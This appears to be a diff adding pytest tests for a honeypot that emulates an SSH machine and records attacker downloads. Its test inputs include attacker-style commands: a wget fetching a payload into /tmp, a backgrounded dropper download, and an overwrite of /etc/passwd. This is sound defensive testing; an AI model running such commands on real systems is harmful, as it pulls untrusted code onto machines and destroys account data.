@@ -1,0 +1,67 @@
+"""The real machine behind the sensor, where the two must understand each other."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from typing import Any
+
+import asyncssh
+import pytest
+
+from urltrap.machine.persona import generate
+from urltrap.model.event import CommandEntered, Disconnected, DownloadAnswered, FileWritten
+from urltrap.model.settings import SessionLimits
+from urltrap.quarantine.quarantine import Quarantine
+from urltrap.sensors.emulated import EmulatedMachines, load_base_image
+
+from .conftest import Trap, TrapBuilder
+
+
+@pytest.fixture(scope="module")
+def image() -> tuple[Any, Any]:
+    persona = generate(b"p" * 32, "debian-12", time.time())
+    return load_base_image(persona, {}), persona
+
+
+@pytest.fixture
+async def real(trap_builder: TrapBuilder, image: tuple[Any, Any]) -> Trap:
+    quarantine = Quarantine(trap_builder.folder / "quarantine")
+    return await trap_builder(maker=EmulatedMachines(*image, SessionLimits(), quarantine))
+
+
+async def test_a_download_is_fetched_kept_and_can_be_read(real: Trap) -> None:
+    async with real.connect() as client, asyncio.timeout(20):
+        result = await client.run("cd /tmp; wget -q http://192.0.2.1/x -O .x; cat .x")
+    assert result.stdout == "payload\n"
+    (answered,) = real.journal.of(DownloadAnswered)
+    assert answered.outcome == "fetched"
+    await real.journal.wait_for(Disconnected)
+    assert answered.sha256 in {event.sha256 for event in real.journal.of(FileWritten)}
+
+
+async def test_a_dropper_that_hangs_up_at_once_is_still_served(real: Trap) -> None:
+    async with real.connect() as client:
+        await client.create_process("(sleep 0.05; wget -q http://192.0.2.1/late -O /tmp/l) &")
+        await real.journal.wait_for(CommandEntered)
+        client.abort()
+    await real.journal.wait_for(Disconnected)
+    assert [request.url for request in real.fetcher.asked] == [b"http://192.0.2.1/late"]
+    assert len(real.journal.of(DownloadAnswered)) == 1
+
+
+async def test_a_shell_without_terminal_reads_its_commands_from_standard_input(real: Trap) -> None:
+    async with real.connect() as client, asyncio.timeout(20):
+        result = await client.run(input="echo one\necho two >&2\nexit 5\n")
+    assert (result.stdout, result.stderr, result.exit_status) == ("one\n", "two\n", 5)
+
+
+async def test_a_user_whose_account_is_gone_is_thrown_out(real: Trap) -> None:
+    async with real.connect() as client, asyncio.timeout(20):
+        await client.run("echo nobody:x:65534:65534::/:/bin/false > /etc/passwd")
+    async with real.connect() as client:
+        with pytest.raises((ConnectionError, OSError, asyncssh.Error)):
+            await client.run("id", check=True)
+    first, second = await real.journal.wait_for(Disconnected, 2)
+    assert first.reason == "client"
+    assert (second.reason, second.detail) == ("server", "the account is gone from the machine")
